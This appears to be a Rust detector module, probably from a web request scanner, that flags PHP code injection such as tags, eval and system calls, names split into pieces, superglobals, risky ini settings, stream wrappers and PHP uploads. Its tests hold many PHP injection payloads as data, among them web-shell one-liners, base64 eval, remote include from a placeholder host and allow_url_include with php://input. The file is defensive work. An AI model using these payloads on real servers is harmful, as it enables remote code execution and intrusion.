//! PHP: tags, calls that run code, variable functions, names in pieces, superglobals, settings, script uploads.
//!
//! **In:** a decoded value. **Out:** hits of class `php`.
//! **Invariant:** a name is no hit: a call is one, at a place where code can stand (`code::in_sentence`), or a structure that only
//! PHP has. What a sentence tells of is weak.
//! **Source:** PHP manual: basic syntax, variable functions, variable variables, list of directives, supported wrappers.
//! **Cost:** one pass over values with a word of PHP, a `$` or `<?`; every look around is bounded by a constant.

use super::super::places::{Places, Set};
use super::bytes::{
    self, DOLLAR, LINE, LOUD, PAREN, QUOTE, SHELL, byte, has_at, is_space, is_word, part, rest,
    skip_space,
};
use super::code::{self, Arguments, Call, Gap};
use super::php_words::{
    self, COMMON, GLOBALS, GLUE, MAYBE, SETTING, SETTINGS, SURE, TAG, TORN, WRAPPER,
};
use super::triggers::{CALLEE, EXTENSION, PHP, QUERY};
use super::words::{Key, Words};
use super::{Class, Hits, Strength, View, upload};

/// Bytes of a name or an index that are read.
const REACH: usize = 48;

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    let View {
        bytes: value,
        classes,
        words,
        ..
    } = *view;
    if upload::is_file_name(view)
        && let Some(at) = upload::php(value)
    {
        hits.add(Class::Php, Strength::Decisive, at);
        return;
    }
    if classes & PAREN != 0 && classes & SHELL != 0 && ends_program(value) {
        hits.add(Class::Php, Strength::Decisive, 0);
        return;
    }
    let torn = classes & PAREN != 0 && (classes & QUOTE != 0 || view.marks & CALLEE != 0);
    let tag = view.marks & QUERY != 0;
    let named = view.marks & EXTENSION != 0;
    if classes & LOUD == 0 || (words & PHP == 0 && classes & DOLLAR == 0 && !torn && !tag && !named)
    {
        return;
    }
    super::spend(steps, value.len());
    // Without a word of it no word of the value is one.
    let worded = words & PHP != 0 || named;
    let document = worded && classes & LINE != 0 && code::is_document(value);
    let mut signs = Places::of(value, &SIGNS);
    let mut at = 0;
    loop {
        if !worded {
            let Some(sign) = signs.from(at) else {
                return;
            };
            if is_in_word(value, at, sign) {
                at = bytes::next(value, sign, |byte| bytes::folded(byte) == 0)
                    .unwrap_or(value.len());
                continue;
            }
            at = sign;
        }
        let Some(&here) = value.get(at) else {
            return;
        };
        let mut next = at.saturating_add(1);
        let hit = match here {
            b'<' if byte(value, next) == b'?' => tag_at(value, at),
            b'[' | b'{' => bulletin(value, at),
            b'$' => {
                super::spend(steps, 4);
                dollar(value, at, view.is_name)
            }
            b'(' => {
                let before = code::last(value, at);
                if matches!(before, b')' | b']' | b'}' | b'"' | b'\'') {
                    super::spend(steps, 32);
                }
                callee(value, at, before, classes & DOLLAR != 0)
            }
            b'"' | b'\'' => string(value, at),
            b'-' | 0xAD if matches!(byte(value, next), b'd' | b'D') => option(value, at),
            _ if is_word(here) && code::starts(value, at) => {
                let (end, key) = code::word(value, at);
                next = end.max(next);
                let have = hits.get(Class::Php).map(|(strength, _)| strength);
                word(value, at, next, php_words::kind(key), document, have)
            }
            _ => None,
        };
        if let Some(strength) = hit {
            hits.add(Class::Php, strength, at);
            if strength == Strength::Decisive {
                return;
            }
            super::spend(steps, REACH);
        }
        at = next;
    }
}

/// What something of PHP can begin with that no word of it tells of.
static SIGNS: Set = Set::of(b"<$(\"'-\xAD");

/// Whether the sign is a byte of a word that starts at `from` or later: the `$` of `a$b`.
fn is_in_word(value: &[u8], from: usize, sign: usize) -> bool {
    if bytes::folded(byte(value, sign)) == 0 {
        return false;
    }
    let before = value.get(from..sign).unwrap_or_default();
    let start = before
        .iter()
        .rposition(|&byte| bytes::folded(byte) == 0)
        .map_or(from, |last| from.saturating_add(last).saturating_add(1));
    start < sign && code::starts(value, start)
}

/// `';exit(f('x'));//`: a statement right behind what it leaves, its call the last thing before an empty comment.
fn ends_program(value: &[u8]) -> bool {
    let text = value.trim_ascii_end();
    let code = text
        .strip_suffix(b";//")
        .or_else(|| text.strip_suffix(b";#"));
    code.is_some_and(|code| {
        code.ends_with(b")")
            && !code.contains(&b'\n')
            && bytes::pair(code, |one, two| match one {
                b'\'' | b'"' => matches!(two, b';' | b'.' | b'+' | b')'),
                b';' => two.is_ascii_alphabetic() || matches!(two, b'$' | b'@'),
                _ => false,
            })
            .is_some()
    })
}

/// What a word of PHP is worth where it stands; in a document, programs are quoted.
fn word(
    value: &[u8],
    start: usize,
    end: usize,
    kind: u8,
    document: bool,
    have: Option<Strength>,
) -> Option<Strength> {
    match kind {
        COMMON if document && have.is_some() => None,
        COMMON if document => function(value, start, end, kind, have).map(|_| Strength::Weak),
        SURE | COMMON | MAYBE | GLUE => function(value, start, end, kind, have),
        SETTING | SETTINGS => setting(value, start, end, kind),
        TAG | WRAPPER => wrapper(value, start, end),
        _ => {
            let name = value.get(start..end)?;
            if php_words::is_of_extension(name) {
                function(value, start, end, SURE, have)
            } else {
                None
            }
        }
    }
}

/// A call of a function. `have`: what was found before; no more than that is no news.
fn function(
    value: &[u8],
    start: usize,
    end: usize,
    kind: u8,
    have: Option<Strength>,
) -> Option<Strength> {
    let call = code::call(value, start, end)?;
    let hit = weighed(value, start, end, kind, &call);
    // A mention is weak, whatever it is of.
    if have.is_some() && hit <= have {
        return None;
    }
    // A comment between a name and its bracket hides it: no sentence has one.
    let hidden = call.gap == Gap::Odd && !is_space(byte(value, end));
    if !hidden && call.is_mention(value) {
        return Some(Strength::Weak);
    }
    hit
}

/// What a call of the function is worth where no sentence tells of it.
fn weighed(value: &[u8], start: usize, end: usize, kind: u8, call: &Call) -> Option<Strength> {
    let &Call {
        gap,
        arguments,
        first,
        ..
    } = call;
    let quoted = matches!(first, b'$' | b'"' | b'\'' | b'`' | b'@' | b'\\');
    if matches!(kind, SURE | COMMON) {
        return match (gap, arguments) {
            (Gap::Blank, Arguments::Name | Arguments::Text) => Some(Strength::Weak),
            (Gap::None, Arguments::Text) => Some(Strength::Suspicious),
            _ => Some(Strength::Decisive),
        };
    }
    if code::is_member(value, start) {
        return Some(Strength::Weak);
    }
    if kind == GLUE {
        return match arguments {
            Arguments::None => Some(Strength::Decisive),
            Arguments::Code if first == b'$' => Some(Strength::Decisive),
            Arguments::Code if start == skip_space(value, 0) && is_remote(value, end) => {
                Some(Strength::Decisive)
            }
            Arguments::Code if quoted => Some(Strength::Suspicious),
            _ => None,
        };
    }
    let name = value.get(start..end)?;
    let title = name.first().is_some_and(u8::is_ascii_uppercase)
        && name.iter().skip(1).all(u8::is_ascii_lowercase);
    match (gap, arguments) {
        (_, Arguments::Open) => None,
        (Gap::Odd, Arguments::None | Arguments::Code | Arguments::Name) => Some(Strength::Decisive),
        (Gap::None, Arguments::Code) => Some(Strength::Decisive),
        (Gap::Blank, Arguments::Code) if quoted && !title => Some(Strength::Decisive),
        // `File(s)`, `system(e)`: a plural.
        (Gap::None, Arguments::Name) if !title && byte(value, end.saturating_add(2)) != b')' => {
            Some(Strength::Decisive)
        }
        (Gap::None, Arguments::None) => Some(Strength::Suspicious),
        _ => None,
    }
}

/// `('http://`, ` "php://`: what is included comes from elsewhere.
fn is_remote(value: &[u8], end: usize) -> bool {
    let open = skip_space(value, end);
    let inside = skip_space(
        value,
        open.saturating_add(usize::from(byte(value, open) == b'(')),
    );
    let name = inside.saturating_add(1);
    matches!(byte(value, inside), b'\'' | b'"')
        && [
            &b"http://"[..],
            b"https://",
            b"ftp://",
            b"php://",
            b"data:",
            b"//",
            b"\\\\",
        ]
        .iter()
        .any(|scheme| has_at(value, name, scheme))
}

/// `<?php`, `<?=`, `<? echo`, and `<?` at the end of a value without blanks.
fn tag_at(value: &[u8], at: usize) -> Option<Strength> {
    let name = at.saturating_add(2);
    let next = byte(value, name);
    let found = if next == b'=' {
        name.saturating_add(1) < value.len()
    } else if next.is_ascii_alphabetic() {
        let (end, key) = code::word(value, name);
        match php_words::kind(key) {
            TAG => true,
            _ if has_at(value, name, b"xml") && end == name.saturating_add(3) => {
                byte(value, skip_space(value, end)) == b':'
            }
            _ => is_statement(value, name),
        }
    } else if is_space(next) {
        let start = skip_space(value, name);
        let (_, key) = code::word(value, start);
        php_words::kind(key) == TAG || is_statement(value, start)
    } else {
        (name >= value.len() && at > 0 && !value.contains(&b' ')) || is_statement(value, name)
    };
    found.then(|| {
        if code::in_sentence(value, at) {
            Strength::Weak
        } else {
            Strength::Decisive
        }
    })
}

/// Whether a statement of PHP starts at `at`.
fn is_statement(value: &[u8], at: usize) -> bool {
    let next = byte(value, at);
    if matches!(next, b'$' | b'@' | b'`') {
        return true;
    }
    let (end, key) = code::word(value, at);
    if matches!(php_words::kind(key), SURE | COMMON | MAYBE | GLUE) {
        return byte(value, code::gap(value, end).0) == b'(';
    }
    [
        &b"echo"[..],
        b"print",
        b"include",
        b"include_once",
        b"require",
        b"require_once",
        b"if",
        b"foreach",
        b"while",
        b"die",
        b"exit",
        b"return",
        b"namespace",
        b"function",
    ]
    .iter()
    .any(|word| has_at(value, at, word) && !is_word(byte(value, at.saturating_add(word.len()))))
}

/// `[php]`, `[/php]`, `{php}`: tags of boards and of Smarty.
fn bulletin(value: &[u8], at: usize) -> Option<Strength> {
    let mut start = at.saturating_add(1);
    if matches!(byte(value, start), b'/' | b'\\') {
        start = start.saturating_add(1);
    }
    let close = if byte(value, at) == b'[' { b']' } else { b'}' };
    let found = has_at(value, start, b"php") && byte(value, start.saturating_add(3)) == close;
    found.then(|| {
        if code::in_sentence(value, at) {
            Strength::Weak
        } else {
            Strength::Decisive
        }
    })
}

/// Variables as functions, variable variables, superglobals.
fn dollar(value: &[u8], at: usize, is_name: bool) -> Option<Strength> {
    let mut start = at.saturating_add(1);
    if at > 0 && byte(value, at.saturating_sub(1)) == b'$' {
        return None;
    }
    for _ in 0..4 {
        if byte(value, start) != b'$' {
            break;
        }
        start = start.saturating_add(1);
    }
    let open = skip_space(value, start);
    if byte(value, open) == b'{' {
        return braces(value, at, start, open);
    }
    let first = byte(value, start);
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return None;
    }
    let name = part(value, start, REACH);
    let length = name
        .iter()
        .position(|&letter| !is_word(letter))
        .unwrap_or(name.len());
    let end = start.saturating_add(length);
    let name = value.get(start..end)?;
    let after = code::gap(value, end).0;
    let indexed = matches!(byte(value, after), b'[' | b'{');
    if GLOBALS
        .iter()
        .any(|global| name.eq_ignore_ascii_case(global))
    {
        let whole = is_name && at == 0 && end == value.len();
        return Some(if whole || (indexed && !code::in_sentence(value, at)) {
            Strength::Decisive
        } else {
            Strength::Weak
        });
    }
    let (call_at, gap) = groups(value, end)?;
    called(value, at, call_at, gap)
}

/// Skips indices (`[…]`, `{…}`, none of them empty) from `from` on; the place of the bracket of a call, and the gap before it.
fn groups(value: &[u8], from: usize) -> Option<(usize, Gap)> {
    let mut at = from;
    for _ in 0..6 {
        let (next, gap) = code::gap(value, at);
        let close = match byte(value, next) {
            b'(' => return Some((next, gap)),
            b'[' => b']',
            b'{' => b'}',
            _ => return None,
        };
        let inner = part(value, next.saturating_add(1), REACH);
        let length = inner.iter().position(|&byte| byte == close)?;
        if length == 0 {
            return None;
        }
        at = next.saturating_add(length).saturating_add(2);
        // An index that holds an index: `$a[$b[1]]`.
        if byte(value, at) == close {
            at = at.saturating_add(1);
        }
    }
    None
}

/// A call of what a variable holds. `$f(x)$` is mathematics, `$ACME (Acme)` a stock, `$list(name)` an array of Tcl, and in a
/// password nothing closes or ends as in code.
fn called(value: &[u8], at: usize, open: usize, gap: Gap) -> Option<Strength> {
    let (arguments, end) = code::arguments(value, open);
    let end = end?;
    let tail = part(value, end, REACH);
    let mut before = 0;
    let formula = tail.iter().any(|&next| {
        let open = core::mem::replace(&mut before, next) == b'$';
        open && !(next.is_ascii_alphabetic() || matches!(next, b'_' | b'{' | b'$'))
    }) || tail.last() == Some(&b'$');
    let inner = code::gap(value, open.saturating_add(1)).0;
    let name =
        byte(value, inner).is_ascii_alphabetic() && byte(value, code::word(value, inner).0) != b'(';
    let before = at.checked_sub(1).map_or(b' ', |at| byte(value, at));
    let odd = is_word(before) || before == b'%' || is_word(byte(value, end));
    let mention = code::in_sentence(value, at) || code::goes_on(value, end);
    if mention
        || formula
        || name
        || odd
        || byte(value, inner) == b'{'
        || arguments == Arguments::Text
    {
        return Some(Strength::Weak);
    }
    let whole = at <= 1 && end.saturating_add(1) >= value.len();
    match gap {
        Gap::Blank if !whole => Some(Strength::Weak),
        _ => Some(Strength::Decisive),
    }
}

/// `${…}`, with blanks or without.
fn braces(value: &[u8], at: usize, sigil: usize, open: usize) -> Option<Strength> {
    let inner = skip_space(value, open.saturating_add(1));
    let first = byte(value, inner);
    let odd = match first {
        b'"' | b'\'' | b'$' | b'@' => true,
        b'}' | 0 => return None,
        // `$ {command} --flag`: a prompt, and a place to fill in.
        _ if open > sigil && is_word(first) && byte(value, code::word(value, inner).0) == b'}' => {
            false
        }
        _ => open > sigil && (is_word(first)),
    };
    if odd {
        return Some(if code::in_sentence(value, at) {
            Strength::Weak
        } else {
            Strength::Decisive
        });
    }
    let tail = part(value, inner, REACH);
    let length = tail.iter().position(|&byte| byte == b'}')?;
    let after = inner.saturating_add(length).saturating_add(1);
    let (open, gap) = groups(value, after)?;
    called(value, at, open, gap)
}

/// `("system")(…)`, `(sy.(st).em)(…)`, `[system][0](…)`, `($f)(…)`: the bracket at `open` calls what stands before it.
/// `before`: the last byte before it that is no blank; `dollars`: the value has a `$`.
fn callee(value: &[u8], open: usize, before: u8, dollars: bool) -> Option<Strength> {
    let commented = before == b'/' && has_at(value, open.saturating_sub(2), b"*/");
    if !matches!(before, b')' | b']' | b'}' | b'"' | b'\'') && !commented {
        return None;
    }
    let gap = byte(value, open.saturating_sub(1)) == b' ';
    // What a variable in brackets needs, however its name goes on.
    let variable = dollars && matches!(before, b')' | b'/') && !gap;
    let mut reversed = Key::EMPTY;
    let mut length = 0_usize;
    // The letters so far may be the end of a listed name.
    let mut piece = Some(Piece::EMPTY);
    // What was read since is no letter.
    let mut same = true;
    let mut at = open;
    let mut boundary = false;
    let mut comment = false;
    for _ in 0..64_u8 {
        let Some(previous) = at.checked_sub(1) else {
            boundary = true;
            break;
        };
        at = previous;
        let letter = byte(value, at);
        if comment {
            comment = !(letter == b'/' && byte(value, at.saturating_add(1)) == b'*');
            continue;
        }
        match letter {
            b'.' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'"' | b'\'' | b'@' => {}
            b'/' if at > 0 && byte(value, at.saturating_sub(1)) == b'*' => comment = true,
            _ if is_word(letter) => {
                // Behind the name there may be an index.
                if length == 0 && letter.is_ascii_digit() {
                    continue;
                }
                if length >= 24 {
                    break;
                }
                length = length.saturating_add(1);
                reversed.push(letter);
                piece = piece.and_then(|piece| piece.before(letter));
                if piece.is_none() && !variable {
                    return None;
                }
                same = false;
            }
            b'$' => {
                if variable && length > 0 {
                    return Some(Strength::Decisive);
                }
                break;
            }
            _ if is_space(letter) => {}
            _ => {
                boundary = true;
                break;
            }
        }
        if !same && length > 3 && !is_word(byte(value, at.saturating_sub(1))) {
            if piece.is_some() && TORN_BACK.kind(reversed) != 0 {
                boundary = true;
                break;
            }
            same = true;
        }
    }
    if !boundary || piece.is_none() || TORN_BACK.kind(reversed) == 0 {
        return None;
    }
    let quoted = matches!(
        byte(value, code::gap(value, open.saturating_add(1)).0),
        b'"' | b'\'' | b'$' | b'@'
    );
    if (gap && !quoted && before != b']' && before != b'}') || code::in_sentence(value, at) {
        return None;
    }
    Some(Strength::Decisive)
}

/// Functions that run something, as they read from behind.
static TORN_BACK: Words<64> = Words::empty().backwards(&TORN, 1);

/// The end of a name of [`TORN`]: a hash of its letters, read from behind.
#[derive(Clone, Copy)]
struct Piece(u32);

impl Piece {
    const EMPTY: Self = Self(0x811c_9dc5);

    /// The piece with the letter that stands before it; nothing when no listed name ends so. (Another text may seem to be one: it
    /// is read further, and is none as a whole.)
    fn before(self, letter: u8) -> Option<Self> {
        let longer = self.with(letter.to_ascii_lowercase());
        let (slot, bit) = longer.place();
        let known = PIECES.get(slot).is_some_and(|bits| bits & bit != 0);
        known.then_some(longer)
    }

    #[expect(clippy::as_conversions, reason = "widening in a const fn")]
    const fn with(self, letter: u8) -> Self {
        Self((self.0 ^ letter as u32).wrapping_mul(0x0100_0193))
    }

    /// Its slot of [`PIECES`], and its bit there.
    #[expect(clippy::as_conversions, reason = "seven bits, in a const fn")]
    const fn place(self) -> (usize, u32) {
        ((self.0 >> 25) as usize, 1_u32.wrapping_shl(self.0 >> 20))
    }
}

/// The ends of all names of [`TORN`], a bit each.
#[expect(
    clippy::indexing_slicing,
    reason = "runs while compiling: a fault is a build error"
)]
static PIECES: [u32; 128] = {
    let mut table = [0; 128];
    let mut index = 0;
    while index < TORN.len() {
        let mut piece = Piece::EMPTY;
        let mut from = TORN[index].len();
        while from > 0 {
            from -= 1;
            piece = piece.with(TORN[index][from]);
            let (slot, bit) = piece.place();
            table[slot] |= bit;
        }
        index += 1;
    }
    table
};

/// Serialised objects, and names that adjacent strings spell.
fn string(value: &[u8], at: usize) -> Option<Strength> {
    if let Some(key) = code::joined(value, at)
        && matches!(php_words::kind(key), SURE | MAYBE)
    {
        return Some(Strength::Decisive);
    }
    None
}

/// `-d allow_url_include=1`, with the soft hyphen that some code pages turn into one.
fn option(value: &[u8], at: usize) -> Option<Strength> {
    let before = at.checked_sub(1).map_or(b' ', |at| byte(value, at));
    if !is_space(before) && !matches!(before, b'?' | b'&' | b'+' | 0xC2) {
        return None;
    }
    let start = skip_space(value, at.saturating_add(2));
    let (end, key) = code::word(value, start);
    let known = matches!(php_words::kind(key), SETTING | SETTINGS);
    let equals = part(value, end, REACH)
        .iter()
        .position(|&letter| !is_word(letter) && letter != b'.')
        .is_some_and(|step| byte(value, end.saturating_add(step)) == b'=');
    (known && equals).then_some(Strength::Decisive)
}

/// `extension_dir=…` as a whole value.
fn setting(value: &[u8], start: usize, end: usize, kind: u8) -> Option<Strength> {
    let mut end = end;
    if kind == SETTINGS {
        let tail = part(value, end, REACH);
        let length = tail
            .iter()
            .position(|&letter| !is_word(letter) && letter != b'.')?;
        if byte(value, end) != b'.' || length < 3 {
            return None;
        }
        end = end.saturating_add(length);
    }
    let equals = skip_space(value, end);
    if byte(value, equals) != b'=' || byte(value, equals.saturating_add(1)) == b'=' {
        return None;
    }
    let whole = start == 0 && bytes::tally(value.iter().filter(|&&byte| byte == b' ').take(4)) < 3;
    Some(if whole {
        Strength::Decisive
    } else {
        Strength::Weak
    })
}

/// `php://input`, `phar://…`, `expect://id`, `ssh2.exec://…` where an address may start.
fn wrapper(value: &[u8], start: usize, end: usize) -> Option<Strength> {
    let mut end = end;
    if byte(value, end) == b'.' {
        end = code::word(value, end.saturating_add(1)).0;
    }
    if !rest(value, end).starts_with(b"://") {
        return None;
    }
    let before = start.checked_sub(1).map_or(b'=', |at| byte(value, at));
    let leads = matches!(
        before,
        b'=' | b'"' | b'\'' | b'(' | b':' | b'|' | b'/' | b',' | b'['
    );
    let compressed = before == b'.' && has_at(value, start.saturating_sub(9), b"compress.");
    Some(if leads || compressed {
        Strength::Decisive
    } else {
        Strength::Weak
    })
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Strength, hits_of};

    fn is_decisive(value: &str) -> bool {
        hits_of(value.as_bytes()).contains(&(Class::Php, Strength::Decisive))
    }

    #[test]
    fn code_is_found_where_code_can_stand() {
        for value in [
            // Statements behind a string.
            "';exit(md5('a1'));//",
            "\".exit(md5('a1'));#",
            "a;die(strrev('ba'));//",
            // Tags.
            "$ {phpinfo()}",
            "$ {\"a\"}",
            "<?php echo 1;",
            "<?PHP\necho 1;",
            "x<?=`id`?>",
            "<? system($x) ?>",
            "<?xml:echo 1;",
            "img<?",
            "{php}echo 1;{/php}",
            "GIF89a<?php system($_GET[0]);",
            // Calls.
            "system('id')",
            "\\system('id')",
            "@system('id');",
            "');system('id');//",
            "1;phpinfo()",
            "{${phpinfo()}}",
            "|| phpinfo()",
            "eval($_POST['x'])",
            "eval(base64_decode('aWQ='))",
            "file_put_contents/**/('a', 'b')",
            "I do not mind gzinflate/*x*/()",
            "exec  (whoami)",
            "exec #x\n(whoami)",
            "echo shell_exec('id');",
            "print_r(scandir('.'))",
            "array_map('system', ['id'])",
            "posix_getegid()",
            "sodium_crypto_box_keypair (",
            "extract($_GET)",
            "new ReflectionFunction('system')",
            "<?php __HALT_COMPILER();",
            // Names in pieces.
            "('sys'.'tem')('id')",
            "(sy.(st).em)('id')",
            "\"system\"('id')",
            "[system][0]('id')",
            "(string)\"system\"('id')",
            "$f = 'sys' . 'tem'; $f('id');",
            "(/*x*/system/*y*/)/*z*/('id')",
            "chr(115).chr(121)",
            // Variables.
            "$a('id')",
            "$$b(2)",
            "@$_[0]($_[1])",
            "${'_GET'}[x]",
            "$ {'a'}",
            "${@$b}(12)",
            "$x{0}(1)",
            "Foo::$bar()",
            "$foo->$bar()",
            "$_GET['x']",
            "$GLOBALS['x']",
            // Settings and wrappers.
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "opcache.preload=/tmp/x",
            "extension_dir=/tmp",
            "php://filter/convert.base64-encode/resource=index",
            "phar:///tmp/a.jpg/x",
            "expect://id",
            "ssh2.exec://u:p@h/id",
        ] {
            assert!(
                is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }

    #[test]
    fn talk_about_code_is_none() {
        for value in [
            "save(); // and close",
            "foo(a); bar(b); // ok",
            "How do I use <?php echo $x; ?> here",
            "run:\n\n    $ {command} --region=eu",
            "サーバーで mail() 関数が無効です。",
            "Java, JavaScript, PHP: which language? phpinfo is handy",
            "You can use file_get_contents() to read it.",
            "I called `exec('ls')` and it hangs",
            "phpinfo() is disabled on my host",
            "The function \"system('x')\" returns the last line",
            "In old versions, eval($code) was common",
            "is $_GET['id'] safe?",
            "please check $user['name'] first",
            "richard.php@my-email.example",
            "RootAndLeafOpenCamera.jpg",
            "SprintForTheCause",
            "System (2023)",
            "File(s)",
            "operating \"system\" (linux)",
            "the system is down()",
            "ecosystem()",
            "exec (",
            "a (b) (c)",
            "§ 501(c)(3)",
            "(555)(1234)",
            "(foo)bar or foo(bar)",
            "this is a \"dog\" (not a cat)",
            "Hello ${name}, welcome back",
            "${CLICK_URL}",
            "$f(x)$ and $O(n)$",
            "$f(2)=4$",
            "$ACME (Acme Inc.) +2%",
            "US$50 (about 45)",
            "$(\"#id\").hide()",
            "regex.exec(text)",
            "db.system(1)",
            "<?xml version=\"1.0\"?>",
            "<?xpacket begin=\"?\"?>",
            "var x = (a < b) ? c : d; // <?test comment",
            "Is this x < y ? yes : no",
            "#Oc%$st()_1Tg",
            "$lr42(GG5hKM6m",
            "set x $list(name)",
            "memory_limit and max_execution_time are too low",
            "my file: a (1).php",
            "{\"array\":[\"php\",\"test\"]}",
        ] {
            assert!(
                !is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }
    #[test]
    fn decoys_hide_nothing() {
        let decoys = "we use exec(a) here. ".repeat(300);
        assert!(!is_decisive(&decoys), "{decoys}");
        assert!(is_decisive(&format!("{decoys}<?php system($_GET[0]);")));
    }

    #[test]
    fn what_is_included_comes_from_elsewhere() {
        let caught =
            |value: &str| hits_of(value.as_bytes()).contains(&(Class::Php, Strength::Decisive));
        for value in [
            "include('http://x.example/x.txt')",
            "include \"php://input\";",
            "require_once('//x.example/a.php')",
        ] {
            assert!(caught(value), "{value}");
        }
        for value in [
            "include 'the receipt' please",
            "we include('all') taxes",
            "please include http://x.example/",
        ] {
            assert!(!caught(value), "{value}");
        }
    }
}
